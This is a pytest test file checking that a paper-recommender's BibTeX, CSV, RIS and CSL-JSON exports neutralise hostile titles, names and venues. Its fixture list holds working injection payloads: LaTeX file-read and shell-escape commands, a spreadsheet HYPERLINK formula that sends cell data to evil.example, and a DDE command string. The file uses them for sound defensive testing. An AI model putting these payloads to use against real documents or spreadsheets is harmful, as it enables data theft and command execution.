"""Exports that are inert: hostile titles, names and venues through all five formats, read back
by bibtexparser, rispy, csv and json, and by paperclub itself."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import bibtexparser
import pytest
import rispy

from recommender import Library
from recommender.export import FORMATS, SUFFIXES

from .conftest import INGEST_DAY

HOSTILE_TITLES = [
    "A Harmless Study \\input{/etc/hostname}",
    "Trailing backslash \\",
    "Unbalanced } brace { and \\def\\x{y}",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+1 reasons to panic",
    "-2 is a number",
    "@SUM(1+1) at sign",
    "100% sure & #1 costs $5 and $6 ^ _ ~ tilde",
    "Cu₂O and α-decay in Erdős–Rényi graphs",
    "\\immediate\\write18 and \\openout",
]
# What paperclub's BibTeX export writes for TeX's special characters.
_OUR_ESCAPES = re.compile(r"\\text(backslash|braceleft|braceright|dollar|asciicircum)\{\}|\\[&%#_]")


def _csl_item(number: int, title: str) -> dict:
    return {"id": f"hostile{number}", "type": "article-journal", "title": title,
            "author": [{"family": "=Evil" if number == 3 else "Doe\\input", "given": "Jane"}],
            "container-title": "@Journal of \\input", "issued": {"date-parts": [[2020]]}}


@pytest.fixture
def hostile(empty: Library, tmp_path: Path) -> Library:
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps([_csl_item(n, t) for n, t in enumerate(HOSTILE_TITLES)]), encoding="utf-8")
    report = empty.import_likes("ada", [path], today=INGEST_DAY)
    assert report.added == len(HOSTILE_TITLES)
    return empty


def _titles(library: Library) -> list[str]:
    return sorted(s.paper.title for s in library.likes("ada"))


def test_hostile_titles_are_stored_as_written(hostile):
    assert _titles(hostile) == sorted(HOSTILE_TITLES)
    assert {s.paper.venue for s in hostile.likes("ada")} == {"@Journal of \\input"}


@pytest.mark.parametrize("fmt", ["bibtex", "biblatex"])
def test_bibtex_export_runs_no_command_and_reads_back_whole(hostile, fmt):
    text = hostile.export(fmt, user="ada").text
    library = bibtexparser.parse_string(text)
    assert not library.failed_blocks
    assert len(library.entries) == len(HOSTILE_TITLES)
    for entry in library.entries:
        for field in entry.fields:
            value = _OUR_ESCAPES.sub("", str(field.value))
            assert not re.search(r"\\(input|write|def|immediate|openout|relax)", value), (field.key, field.value)
            assert value.count("{") == value.count("}"), (field.key, field.value)
            assert not str(field.value).rstrip("}").endswith("\\")
    assert "\\textbackslash{}input\\textbraceleft{}/etc/hostname\\textbraceright{}" in text


def test_bibtex_export_writes_accents_and_simple_math_as_latex(hostile):
    text = hostile.export("bibtex", user="ada").text
    assert "Cu\\ensuremath{_2}O and \\ensuremath{\\alpha}-decay in Erd\\H{o}s{\\textendash}R\\'enyi" in text


def test_csv_export_opens_as_text_in_a_spreadsheet(hostile):
    rows = list(csv.reader(io.StringIO(hostile.export("csv", user="ada").text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in cells
    assert "'@Journal of \\input" in cells


def test_ris_and_csljson_keep_the_text_as_it_is(hostile):
    ris = rispy.loads(hostile.export("ris", user="ada").text)
    items = json.loads(hostile.export("csljson", user="ada").text)
    assert sorted(e["title"] for e in ris) == sorted(i["title"] for i in items) == sorted(HOSTILE_TITLES)


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_export_reads_back_into_paperclub_as_the_same_text(hostile, tmp_path, fmt):
    path = tmp_path / f"out{SUFFIXES[fmt]}"
    path.write_text(hostile.export(fmt, user="ada").text, encoding="utf-8")
    with Library(tmp_path / "again.db") as again:
        report = again.import_likes("ada", [path], today=INGEST_DAY)
        assert not report.rejected, fmt
        assert _titles(again) == sorted(HOSTILE_TITLES), fmt
        venues = {s.paper.venue for s in again.likes("ada")}
        assert venues == {"@Journal of \\input"}, fmt
        names = {s.paper.authors[0].family for s in again.likes("ada")}
        assert names == {"=Evil", "Doe\\input"}, fmt
